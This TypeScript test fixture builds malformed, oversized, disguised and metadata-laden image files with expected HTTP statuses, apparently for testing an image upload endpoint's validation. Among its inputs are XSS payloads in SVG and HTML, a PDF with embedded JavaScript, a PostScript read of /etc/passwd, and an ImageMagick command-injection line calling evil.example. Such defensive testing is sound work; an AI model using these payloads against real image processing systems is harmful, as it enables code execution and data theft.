import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import {
  chunk,
  noise,
  png,
  pngSignature,
  rows,
  tooFewRows,
  withJpegSize,
  withWebpSize,
} from './image-bytes.ts'

type Pixels = Parameters<typeof sharp>[1]

export interface ImageFile {
  name: string
  bytes: Buffer
  status: 201 | 413 | 422
  /** The header declares more pixels than are allowed. */
  isTooLarge?: boolean
}

const plain = (width: number, height: number, more: Partial<Pixels> = {}) =>
  sharp({ create: { width, height, channels: 3, background: '#c33' }, ...more })

const secret = 'Halyard-Secret-Place'
const exif = {
  IFD0: { Copyright: secret, Artist: secret },
  IFD3: {
    GPSLatitude: '43/1 39/1 0/1',
    GPSLatitudeRef: 'N',
    GPSLongitude: '70/1 15/1 0/1',
    GPSLongitudeRef: 'W',
  },
}

async function oversized(): Promise<ImageFile[]> {
  const jpeg = await plain(64, 64).jpeg().toBuffer()
  const webp = await plain(64, 64).webp().toBuffer()
  const rejected = (name: string, bytes: Buffer): ImageFile => ({ name, bytes, status: 422 })
  const tooLarge = (name: string, bytes: Buffer): ImageFile => ({
    ...rejected(name, bytes),
    isTooLarge: true,
  })
  return [
    tooLarge('a PNG declared as 30000 × 30000', png(30_000, 30_000, tooFewRows)),
    rejected('a PNG declared as 2 147 483 647 × 1', png(0x7fffffff, 1, tooFewRows)),
    rejected('a PNG declared as 1 × 2 147 483 647', png(1, 0x7fffffff, tooFewRows)),
    rejected('a PNG declared as 4 294 967 295 × 4 294 967 295', png(0xffffffff, 0xffffffff, tooFewRows)),
    rejected('a PNG declared as 0 × 0', png(0, 0, tooFewRows)),
    tooLarge('a PNG of 12001 × 1', png(12_001, 1, rows(12_001, 1))),
    tooLarge('a PNG of 1 × 12001', png(1, 12_001, rows(1, 12_001))),
    tooLarge('a PNG of 42 megapixels in 40 kB', png(7_000, 6_000, rows(7_000, 6_000))),
    tooLarge('a JPEG declared as 65500 × 65500', withJpegSize(jpeg, 65_500, 65_500)),
    tooLarge('a JPEG declared as 12001 × 64', withJpegSize(jpeg, 12_001, 64)),
    rejected('a JPEG declared as 0 × 0', withJpegSize(jpeg, 0, 0)),
    rejected('a WebP declared as 16383 × 16383', withWebpSize(webp, 16_383, 16_383)),
    rejected('a WebP declared as 16777216 × 16777216', withWebpSize(webp, 0x1000000, 0x1000000)),
    {
      name: 'a PNG with 20 MB of compressed text',
      bytes: png(8, 8, rows(8, 8), {
        extra: [
          chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))])),
        ],
      }),
      status: 201,
    },
  ]
}

async function damaged(): Promise<ImageFile[]> {
  const whole = {
    png: await noise(200, 150).png().toBuffer(),
    jpeg: await noise(200, 150).jpeg().toBuffer(),
    'progressive JPEG': await noise(200, 150).jpeg({ progressive: true }).toBuffer(),
    webp: await noise(200, 150).webp().toBuffer(),
  }
  const cut = Object.entries(whole).flatMap(([format, bytes]) =>
    [9, 30, 0.25, 0.5, 0.9].map((part) => {
      const length = part < 1 ? Math.floor(bytes.length * part) : part
      return {
        name: `a ${format} cut after ${part < 1 ? `${part * 100} %` : `${part} bytes`}`,
        bytes: bytes.subarray(0, length),
      }
    }),
  )
  const flipped = Buffer.from(whole.png)
  flipped.fill(0xff, 200, 260)
  const wrongSum = Buffer.from(whole.png)
  wrongSum.writeUInt32BE(0, 29)
  const others = [
    { name: 'a PNG with overwritten content', bytes: flipped },
    { name: 'a PNG with a wrong checksum', bytes: wrongSum },
    { name: 'a PNG without content', bytes: Buffer.concat([pngSignature, chunk('IEND', Buffer.alloc(0))]) },
    { name: 'a PNG of an unknown color type', bytes: png(8, 8, rows(8, 8), { color: 5 }) },
    { name: 'a PNG with a bit depth of 3', bytes: png(8, 8, rows(8, 8), { depth: 3 }) },
    { name: 'the first three bytes of a JPEG', bytes: Buffer.from('ffd8ff', 'hex') },
    { name: 'the first twelve bytes of a WebP', bytes: whole.webp.subarray(0, 12) },
    { name: 'a JPEG of zeros', bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(5000)]) },
  ]
  return [...cut, ...others].map((file) => ({ ...file, status: 422 }))
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

async function disguised(): Promise<ImageFile[]> {
  const jpeg = await plain(32, 32).jpeg().toBuffer()
  const others: Record<string, Buffer> = {
    'a GIF': await plain(32, 32).gif().toBuffer(),
    'a TIFF': await plain(32, 32).tiff().toBuffer(),
    'an AVIF': await plain(32, 32).avif({ effort: 0 }).toBuffer(),
    'an SVG': Buffer.from(svg),
    'a compressed SVG': Buffer.from('1f8b0800000000000003', 'hex'),
    HTML: Buffer.from('<!doctype html><script>alert(1)</script>'),
    'a PDF': Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    'a BMP': Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)]),
    'an icon': Buffer.from('00000100010010100000', 'hex'),
    'a HEIC': Buffer.from('0000001866747970686569630000000068656963', 'hex'),
    'a JPEG XL': Buffer.from('0000000c4a584c200d0a870a', 'hex'),
    'a JPEG 2000': Buffer.from('0000000c6a5020200d0a870a', 'hex'),
    'an OpenEXR': Buffer.from('762f310102000000', 'hex'),
    'a PPM': Buffer.from('P6 1 1 255\nabc'),
    'a PostScript': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
    'an ImageMagick script': Buffer.from('push graphic-context\nfill "url(https://evil.example/|id)"\npop'),
    'a ZIP': Buffer.from('504b0304140000000000', 'hex'),
    'a program': Buffer.from('7f454c4602010100', 'hex'),
    'a WAV file': Buffer.concat([Buffer.from('RIFF....WAVEfmt '), Buffer.alloc(100)]),
    'a PNG after a space': Buffer.concat([Buffer.from(' '), png(8, 8, rows(8, 8))]),
    'a JPEG after HTML': Buffer.concat([Buffer.from('<script>alert(1)</script>'), jpeg]),
    'an SVG that begins like a PNG': Buffer.concat([pngSignature, Buffer.from(svg)]),
    'an SVG that begins like a JPEG': Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(svg)]),
    'a GIF that begins like a WebP': Buffer.from('RIFF\x10\0\0\0WEBPGIF89a', 'latin1'),
  }
  return Object.entries(others).map(([name, bytes]) => ({ name, bytes, status: 422 }))
}

/** Metadata of these images must be stripped. */
async function valid(): Promise<ImageFile[]> {
  const frames = Buffer.concat([Buffer.alloc(32 * 32 * 3, 200), Buffer.alloc(32 * 32 * 3, 20)])
  const animated = await sharp(frames, { raw: { width: 32, height: 64, channels: 3, pageHeight: 32 } })
    .webp({ loop: 0, delay: [100, 100] })
    .toBuffer()
  const xmp = `<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><x>${secret}</x></x:xmpmeta>`
  const comment = chunk('tEXt', Buffer.from(`Comment\0${secret}`))
  const animation = chunk('acTL', Buffer.from('0000000200000000', 'hex'))
  const jpeg = await plain(64, 48).jpeg().toBuffer()
  const images: Record<string, Buffer> = {
    'a PNG of one pixel': png(1, 1, rows(1, 1)),
    'a JPEG of one pixel': await plain(1, 1).jpeg().toBuffer(),
    'a WebP of one pixel': await plain(1, 1).webp().toBuffer(),
    'a PNG of 12000 × 1': png(12_000, 1, rows(12_000, 1)),
    'a PNG of 39 megapixels': png(6_500, 6_000, rows(6_500, 6_000)),
    'a PNG of 16 bits': await plain(40, 40).toColourspace('rgb16').png().toBuffer(),
    'a grayscale PNG': await plain(40, 40).greyscale().png().toBuffer(),
    'a PNG with a palette': await plain(40, 40).png({ palette: true }).toBuffer(),
    'a transparent PNG': await plain(40, 40).ensureAlpha(0.5).png().toBuffer(),
    'an interlaced PNG': await noise(40, 40).png({ progressive: true }).toBuffer(),
    'a PNG with a comment': png(8, 8, rows(8, 8), { extra: [comment] }),
    'a PNG with an animation header': png(8, 8, rows(8, 8), { extra: [animation] }),
    'a progressive JPEG': await noise(80, 60).jpeg({ progressive: true }).toBuffer(),
    'a CMYK JPEG': await plain(40, 40).toColourspace('cmyk').jpeg().toBuffer(),
    'a JPEG with GPS data': await plain(64, 48).withExif(exif).jpeg().toBuffer(),
    'a JPEG with XMP metadata': await plain(64, 48).withXmp(xmp).jpeg().toBuffer(),
    'a JPEG with a color profile': await plain(64, 48).withIccProfile('p3').jpeg().toBuffer(),
    'a WebP with GPS data': await plain(64, 48).withExif(exif).webp().toBuffer(),
    'a PNG with GPS data': await plain(64, 48).withExif(exif).png().toBuffer(),
    'an animated WebP': animated,
    'a lossless WebP': await noise(40, 40).webp({ lossless: true }).toBuffer(),
    'a JPEG followed by HTML': Buffer.concat([jpeg, Buffer.from(`<script>${secret}</script>`)]),
    'a JPEG followed by a ZIP': Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${secret}`, 'latin1')]),
    'a PNG containing PHP': png(8, 8, rows(8, 8), {
      extra: [chunk('tEXt', Buffer.from(`x\0<?php ${secret} ?>`))],
    }),
  }
  return Object.entries(images).map(([name, bytes]) => ({ name, bytes, status: 201 }))
}

const LIMIT = 5 * 1024 * 1024

function padToSize(size: number): Buffer {
  const bare = png(8, 8, rows(8, 8)).length + 12
  return png(8, 8, rows(8, 8), { extra: [chunk('prVt', Buffer.alloc(size - bare))] })
}

const sized = (): ImageFile[] => [
  { name: 'an empty file', bytes: Buffer.alloc(0), status: 422 },
  { name: 'one byte', bytes: Buffer.from([0xff]), status: 422 },
  { name: 'a PNG of exactly 5 MB', bytes: padToSize(LIMIT), status: 201 },
  { name: 'a PNG of 5 MB and one byte', bytes: padToSize(LIMIT + 1), status: 413 },
  { name: 'zeros of more than 6 MB', bytes: Buffer.alloc(6_100_000), status: 413 },
]

export { secret as imageSecret }

export const imageFiles = async (): Promise<ImageFile[]> =>
  (await Promise.all([oversized(), damaged(), disguised(), valid()])).flat().concat(sized())
